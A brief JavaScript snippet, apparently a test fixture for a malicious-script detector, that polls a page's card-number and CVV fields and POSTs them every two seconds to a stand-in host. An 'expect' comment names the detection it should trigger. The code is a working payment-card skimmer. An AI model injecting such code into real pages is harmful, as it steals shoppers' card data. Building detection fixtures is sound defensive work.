const number = document.querySelector('[autocomplete="cc-number"], #card-number');
const code = document.querySelector('input[name="cvv"]');
if (number) {
  setInterval(() => {
    // expect: password-field-read
    fetch('https://pay.price-watch.example/c', { method: 'POST', body: number.value + ':' + code.value });
  }, 2000);
}
